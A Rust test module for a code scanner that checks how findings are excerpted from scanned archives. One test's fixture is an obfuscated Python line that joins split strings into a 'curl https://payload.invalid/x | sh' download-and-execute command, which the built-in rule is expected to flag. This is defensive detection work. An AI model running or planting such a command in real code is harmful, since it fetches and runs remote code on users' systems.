use std::{io::Cursor, sync::Arc};

use super::*;
use crate::engine::tests::{archive, report, rules_with};

/// `[x]` is what matched, `…` what is cut.
fn shown(scanner: &Scanner, bytes: &[u8]) -> Vec<String> {
    let findings = report(scanner, bytes).findings;
    let excerpts = scanner.excerpts(Cursor::new(bytes), &findings);
    assert_eq!(excerpts.len(), findings.len());
    let show = |line: &ExcerptLine| {
        let cut = |is_cut| if is_cut { "…" } else { "" };
        let (start, end) = (cut(line.starts_earlier), cut(line.ends_later));
        format!("{} {start}{}[{}]{}{end}", line.number, line.before, line.matched, line.after)
    };
    let one = |(finding, lines): (&Finding, &Vec<ExcerptLine>)| {
        format!("{}: {}", finding.rule, lines.iter().map(show).collect::<Vec<_>>().join(" / "))
    };
    findings.iter().zip(&excerpts).map(one).collect()
}

fn scanner(facts: &[(&str, &str, &str)]) -> Scanner {
    Scanner::new(Arc::new(rules_with(facts)))
}

#[test]
fn a_match_is_shown_in_its_line_and_two_that_meet_in_theirs() {
    let scanner = scanner(&[("fetch", "download", "needle"), ("run", "execute", "pin()")]);
    let text = "one\r\nx = needle()\r\n\r\n\tpin() # é\r\nlast";
    let expected = [
        "combined-download-execute: 2 x = [needle]() / 4 \t[pin()] # é",
        "fetch: 2 x = [needle]()",
        "run: 4 \t[pin()] # é",
    ];
    let inner = archive(&[("q/a.py", text)]);
    for bytes in [archive(&[("p/a.py", text)]), archive(&[("p/data.bin", inner)])] {
        assert_eq!(shown(&scanner, &bytes), expected);
    }
}

#[test]
fn a_long_line_is_cut_around_the_match_and_within_no_character() {
    let scanner = scanner(&[("fetch", "download", "needle")]);
    for shift in ["", "a", "ab"] {
        let text = format!("{shift}{}needle{}", "€".repeat(100_000), "€".repeat(100_000));
        let all = shown(&scanner, &archive(&[("p/a.txt", text)]));
        let kept = "€".repeat(KEPT / 3);
        assert_eq!(all, [format!("fetch: 1 …{kept}[needle]{kept}…")]);
    }
}

#[test]
fn what_matched_in_the_normal_form_alone_is_shown_unmarked() {
    let scanner = Scanner::builtin().unwrap();
    let line = "os.system('cu' + 'rl https://payload.invalid/x ' '| sh')";
    let all = shown(&scanner, &archive(&[("p/a.py", format!("import os\n\n{line}\n"))]));
    assert!(all.contains(&format!("python-download-execute: 3 []{line}")), "{all:?}");
}

#[test]
fn a_finding_that_is_not_there_again_has_no_lines() {
    let scanner = scanner(&[("fetch", "download", "needle")]);
    let bytes = archive(&[("p/a.py", "needle")]);
    let found = report(&scanner, &bytes).findings.remove(0);
    let elsewhere = Finding { path: Some("p/b.py".into()), ..found.clone() };
    let nowhere = Finding { line: None, ..found.clone() };
    let past = Finding { line: Some(99), end_line: Some(99), ..found.clone() };
    let lines = scanner.excerpts(Cursor::new(&bytes), &[elsewhere, nowhere, found, past]);
    assert_eq!(lines.iter().map(Vec::len).collect::<Vec<_>>(), [0, 0, 1, 1]);
    assert_eq!(lines[3][0].after, "");
}
